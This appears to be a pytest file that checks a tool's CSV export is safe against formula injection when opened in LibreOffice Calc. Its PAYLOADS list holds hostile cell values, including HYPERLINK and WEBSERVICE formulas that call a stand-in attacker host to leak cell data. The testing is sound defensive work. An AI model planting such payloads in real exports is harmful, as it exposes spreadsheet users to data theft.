"""An export opened in a real spreadsheet runs no formula (issue 25): the CSV that
`prospector export` writes, with scraped cells shaped like formulas, imported into
LibreOffice Calc headless with formula evaluation on, and read back: every cell as it
was written, none evaluated. A control file in the same import shows evaluation was on.

Calc's CSV import options (token 13, "Evaluate formulas", LibreOffice >= 7.3) are the
ones the filter's own option string names: field separator 44 (','), text delimiter 34
('"'), character set 76 (UTF-8), first line 1, no column formats, language 0, quoted
field as text false, detect special numbers true, three export-only tokens, export
sheets -1, evaluate formulas true (help.libreoffice.org, "CSV Filter Options")."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from prospector.models import Candidate, Contact, FetchedPage, PageFacts
from prospector.score import rescore
from prospector.store.db import Store
from tests.conftest import run_cli

IMPORT_WITH_EVALUATION = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
EXPORT_VALUES = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false"
# Cells a hostile page can put in a site's name: formulas, and the disguises of one the
# issue lists (leading space, NBSP, zero-width space, full-width '＝'), a NUL in front.
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    '=WEBSERVICE("http://evil.test/")',
    "+1+1",
    "-1+3",
    "@SUM(1,1)",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\x00=1+1",
)


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        if os.environ.get("CI") == "true":
            pytest.fail("soffice missing (scripts/system-packages.sh installs "
                        "libreoffice-calc-nogui)")
        pytest.skip("soffice not installed (Debian: libreoffice-calc-nogui): "
                    "spreadsheet import not tried")
    return found


def _db(path: Path) -> Path:
    with Store.open(path) as store:
        run = store.start_run("beekeeping", "{}")
        sites = [(f"site{i}.test", payload) for i, payload in enumerate(PAYLOADS)]
        store.add_candidates(run, [Candidate(f"http://{d}/", d, title) for d, title in sites])
        store.add_pages(run, [
            FetchedPage(d, f"http://{d}/", 200, "text/html", 1, PageFacts(
                url=f"http://{d}/", domain=d, title=title, text="beekeeping blog", kind="blog",
                contacts=(Contact("email", f"jo@{d}", f"http://{d}/", "", 0.9, "personal"),)))
            for d, title in sites])
        store.finish_run(run, "done")
        rescore(store)
    return path


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8"))))


def test_calc_evaluates_no_cell_of_an_export(tmp_path: Path) -> None:
    soffice = _soffice()
    db = _db(tmp_path / "x.duckdb")
    exported = tmp_path / "export.csv"
    result = run_cli("export", "--db", str(db), "--out", str(exported), "--format", "csv")
    assert result.returncode == 0, result.stderr
    control = tmp_path / "control.csv"
    control.write_text("name\n=1+1\n", "utf-8")
    out = tmp_path / "calc"
    started = time.monotonic()
    subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'p').as_uri()}",
         f"--infilter={IMPORT_WITH_EVALUATION}", "--convert-to", EXPORT_VALUES,
         "--outdir", str(out), str(exported), str(control)],
        check=True, capture_output=True, timeout=180)
    print(f"\nLibreOffice Calc import and export of {len(PAYLOADS)} hostile rows: "
          f"{time.monotonic() - started:.1f} s")
    assert _rows(out / "control.csv") == [["name"], ["2"]]  # evaluation was on
    written, read = _rows(exported), _rows(out / "export.csv")
    names = written[0].index("name")
    assert len(written) == len(PAYLOADS) + 1 and len(read) == len(written)
    for before, after in zip(written[1:], read[1:], strict=True):
        # Numbers and dates Calc may re-spell; every text cell comes back as it was.
        assert after[names] == before[names], (before[names], after[names])
        for cell_before, cell_after in zip(before, after, strict=True):
            if not cell_before.replace(".", "", 1).isdigit():
                assert cell_after == cell_before, (cell_before, cell_after)
    assert "click" not in {row[names] for row in read}  # HYPERLINK's label, if it ran
